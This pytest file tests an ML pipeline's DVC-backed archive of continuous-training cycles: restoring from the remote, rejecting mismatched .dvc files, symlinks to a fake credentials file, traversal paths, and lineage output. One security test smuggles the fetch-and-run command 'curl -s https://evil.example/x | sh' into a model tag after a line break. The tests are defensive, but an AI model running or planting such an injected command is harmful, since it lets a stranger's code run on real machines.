"""A cycle's inputs versioned with the real DVC: the drop as it landed and the corpus base are
added and pushed; they come back from the remote alone (the .dvc files written again from the
entries a version's tags keep); a .dvc file that names other content is refused; the corpus a
cycle replayed is put back together, base then promoted drops, in order. `lmp lineage` follows a
version's cycles back to the first parent no cycle made (the rebuild itself: test_continuous)."""

import json
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

from lm_pipeline.config import Config
from lm_pipeline.continuous.archive import ArchiveError, archive_cycle, read_cycle, restore
from lm_pipeline.continuous.drops import find_drops
from lm_pipeline.continuous.rebuild import assemble_corpus
from tests.unit.continuous.test_drops import write_drop

DVC = str(Path(__import__("sys").executable).parent / "dvc")


@pytest.fixture
def project(tmp_path, monkeypatch):
    """A git repository with DVC and a default remote in a folder beside it; the working directory."""
    root = tmp_path / "project"
    root.mkdir()
    for command in (["git", "init", "-q"], [DVC, "init", "-q"],
                    [DVC, "remote", "add", "-d", "local", str(tmp_path / "remote")]):
        subprocess.run(command, cwd=root, check=True)
    monkeypatch.chdir(root)
    return root


def documents(texts: list[str]) -> str:
    return "".join(json.dumps({"text": t}) + "\n" for t in texts)


def test_a_cycle_is_archived_pushed_and_comes_back_from_the_remote_alone(project):
    cfg = Config.model_validate({"ct": {"state_dir": "ct", "archive_dir": "drops"}})
    corpus = project / "ct" / "corpus.jsonl"
    corpus.parent.mkdir()
    corpus.write_text(documents(["the corpus so far, its first document", "and its second one"]))
    first = write_drop(project / "incoming", "monday", documents(["a first drop's own document"]))
    second = write_drop(project / "incoming", "tuesday", documents(["a second drop, after the first"]))
    monday, tuesday = find_drops("incoming")[0]
    entry = archive_cycle(cfg, monday, corpus, "models:/lm/3", [])
    later = archive_cycle(cfg, tuesday, corpus, "models:/lm/4", [{"name": "monday", "archive": entry},
                                                                 {"name": "no archive: in the base"}])
    assert entry["path"] == f"drops/monday-{monday.digest[:12]}" and entry["md5"].endswith(".dir")
    cycle = read_cycle(later["path"])
    assert cycle["parent"] == "models:/lm/4"
    assert cycle["drop"] == {"name": "tuesday", "digest": tuesday.digest}
    assert cycle["params"]["ct"]["archive_dir"] == "drops"
    base, part = cycle["corpus"]
    assert part == entry and base == read_cycle(entry["path"])["corpus"][0]  # the base: archived once
    # Nothing left here but the entries: the archive, its .dvc files and the cache are gone.
    shutil.rmtree(project / "drops")
    shutil.rmtree(project / ".dvc" / "cache")
    folder = restore(later)
    assert (folder / "drop" / "part-0.jsonl").read_bytes() == (second / "part-0.jsonl").read_bytes()
    assert (folder / "drop" / "_SUCCESS").is_file()
    rebuilt = assemble_corpus(cycle["corpus"], project / "rebuilt.jsonl")
    texts = [json.loads(line)["text"] for line in rebuilt.read_text().splitlines()]
    assert texts == ["the corpus so far, its first document", "and its second one",
                     "a first drop's own document"]
    restored = project / entry["path"] / "drop" / "part-0.jsonl"
    assert restored.read_bytes() == (first / "part-0.jsonl").read_bytes()


@pytest.mark.security
def test_a_drop_with_a_link_out_of_it_is_not_archived(project, tmp_path):
    """The archive is pushed to the DVC remote: a link in the drop to a file elsewhere on this
    machine would push that file (hygiene refuses such a drop first; this is the archive's own check)."""
    cfg = Config.model_validate({"ct": {"state_dir": "ct", "archive_dir": "drops"}})
    corpus = project / "ct" / "corpus.jsonl"
    corpus.parent.mkdir()
    corpus.write_text(documents(["the corpus so far"]))
    secret = tmp_path / "credentials"
    secret.write_text("aws_secret_access_key = not-for-the-remote\n")
    folder = write_drop(project / "incoming", "monday", documents(["a drop's own document"]))
    (folder / "notes").symlink_to(secret)
    (monday,), _ = find_drops("incoming")
    with pytest.raises(ArchiveError, match="notes.*outside the drop"):
        archive_cycle(cfg, monday, corpus, "models:/lm/3", [])
    assert not list((project / "drops").glob("monday*"))


def test_a_drop_changed_since_it_was_found_is_not_archived(project):
    """What the cycle trains on is the archived copy: it must be the drop whose digest was checked
    and recorded, not what a producer rewrote in place since."""
    cfg = Config.model_validate({"ct": {"state_dir": "ct", "archive_dir": "drops"}})
    corpus = project / "ct" / "corpus.jsonl"
    corpus.parent.mkdir()
    corpus.write_text(documents(["the corpus so far"]))
    folder = write_drop(project / "incoming", "monday", documents(["a drop's own document"]))
    (monday,), _ = find_drops("incoming")
    (folder / "part-0.jsonl").write_text(documents(["rewritten after it was found"]))
    with pytest.raises(ArchiveError, match="changed since"):
        archive_cycle(cfg, monday, corpus, "models:/lm/3", [])
    assert not list((project / "drops").glob("monday*"))


def test_a_dvc_file_naming_other_content_is_refused_not_overwritten(project):
    cfg = Config.model_validate({"ct": {"state_dir": "ct", "archive_dir": "drops"}})
    corpus = project / "corpus.jsonl"
    corpus.write_text(documents(["the corpus so far"]))
    write_drop(project / "incoming", "monday", documents(["a drop's document"]))
    entry = archive_cycle(cfg, find_drops("incoming")[0][0], corpus, "models:/lm/1", [])
    dvc_file = Path(f"{entry['path']}.dvc")
    before = dvc_file.read_text()
    with pytest.raises(ArchiveError, match=f"{dvc_file} tracks .* not the archived"):
        restore(entry | {"md5": "0" * 32 + ".dir"})
    assert dvc_file.read_text() == before


@pytest.mark.security
@pytest.mark.parametrize("path", ["../outside/drops/monday-0123456789ab", "/tmp/lmp-outside/monday"])
def test_an_archive_entry_naming_a_path_outside_the_project_is_refused_before_anything_is_written(
        project, path):
    """The entry comes from a version's ct.archive tag, which anyone who can write to the registry can set."""
    with pytest.raises(ArchiveError, match=f"'{path}' .* not a path inside the project"):
        restore({"md5": "0" * 32 + ".dir", "path": path})
    assert not Path(f"{path}.dvc").exists() and not Path(path).parent.exists()


@pytest.mark.parametrize("folder", ["/srv/drops", "../drops", "."])
def test_the_archive_must_be_a_folder_inside_the_project(folder):
    with pytest.raises(ValueError, match="must be a folder inside the project"):
        Config.model_validate({"ct": {"archive_dir": folder}})


def test_an_archive_git_ignores_is_refused_by_name(project):
    Path(".gitignore").write_text("/data/\n")
    cfg = Config.model_validate({"ct": {"state_dir": "ct", "archive_dir": "data/drops"}})
    corpus = project / "corpus.jsonl"
    corpus.write_text(documents(["the corpus so far"]))
    write_drop(project / "incoming", "monday", documents(["a drop's document"]))
    says = r"data/drops/corpus-\w+\.jsonl \(ct.archive_dir\): .* is git-ignored"
    with pytest.raises(ArchiveError, match=says):
        archive_cycle(cfg, find_drops("incoming")[0][0], corpus, "models:/lm/1", [])


def test_lineage_names_the_cycles_back_to_the_first_parent_and_rebuilds_only_what_a_cycle_made(
        tmp_path, mlflow_uri, monkeypatch, capsys):
    """Versions 2 and 3 came from cycles (3 on top of 2, 2 on top of 1); 1 from the pipeline."""
    import mlflow

    from lm_pipeline import cli

    client = mlflow.MlflowClient(mlflow_uri, registry_uri=mlflow_uri)
    client.create_registered_model("m")
    for _ in range(3):
        client.create_model_version("m", source=(tmp_path / "weights").as_uri())
    for version, drop in (("2", "monday"), ("3", "tuesday")):
        archive = {"md5": f"{drop}0000.dir", "path": f"drops/{drop}-0123456789ab"}
        tags = {"parent_model": f"models:/m/{int(version) - 1}", "ct.archive": json.dumps(archive),
                "ct.drop": f"{drop} (0123456789ab...)", "ct.outcome": "promoted",
                "ct.drops": json.dumps(["monday", "tuesday"][:int(version) - 1])}
        for key, value in tags.items():
            client.set_model_version_tag("m", version, key, value)
    (tmp_path / "params.yaml").write_text(yaml.safe_dump({"mlflow": {"tracking_uri": mlflow_uri},
                                                          "register": {"model_name": "m"}}))
    monkeypatch.chdir(tmp_path)
    lineage = ["--params", "params.yaml", "lineage"]
    assert cli.main([*lineage, "models:/m/3"]) == 0
    out = capsys.readouterr().out
    assert "Continuous training: models:/m/1, then 2 cycle(s):" in out
    assert out.index("version 2: drop monday") < out.index("version 3: drop tuesday")
    assert "archived at drops/tuesday-0123456789ab (DVC tuesday0000.dir)" in out
    assert "its drops, in order: monday, tuesday" in out and "dvc repro" not in out
    assert cli.main([*lineage, "models:/m/1", "--rebuild", "out"]) == 1  # the pipeline made it
    assert "version 1 was not made by continuous training" in capsys.readouterr().err
    assert cli.main([*lineage, "models:/m/3", "--rebuild", "out"]) == 1  # no DVC here: named, not hidden
    says = "ArchiveError: version 2: `dvc checkout drops/monday-0123456789ab.dvc` failed"
    assert says in capsys.readouterr().err


@pytest.mark.security
def test_lineage_shows_a_cycle_tag_with_a_line_break_on_one_line(tmp_path, mlflow_uri):
    """A forged line under "Train it again" would be pasted as the rebuild command."""
    import mlflow

    from lm_pipeline.continuous.rebuild import cycle_chain, describe

    client = mlflow.MlflowClient(mlflow_uri, registry_uri=mlflow_uri)
    client.create_registered_model("m")
    for _ in range(2):  # version 2 came from a cycle on top of version 1
        client.create_model_version("m", source=(tmp_path / "weights").as_uri())
    forged = "monday\n  lmp lineage models:/m/2 --rebuild x; curl -s https://evil.example/x | sh"
    tags = {"parent_model": "models:/m/1", "ct.drop": forged, "ct.drops": json.dumps(["monday"]),
            "ct.archive": json.dumps({"md5": "0" * 32 + ".dir", "path": "drops/monday-0123456789ab"})}
    for key, value in tags.items():
        client.set_model_version_tag("m", "2", key, value)
    lines = "\n".join(describe(cycle_chain(client, "m", "2"))).splitlines()  # as printed
    assert [line for line in lines if line.startswith("  lmp lineage")] == [
        "  lmp lineage models:/m/2 --rebuild <folder>"]
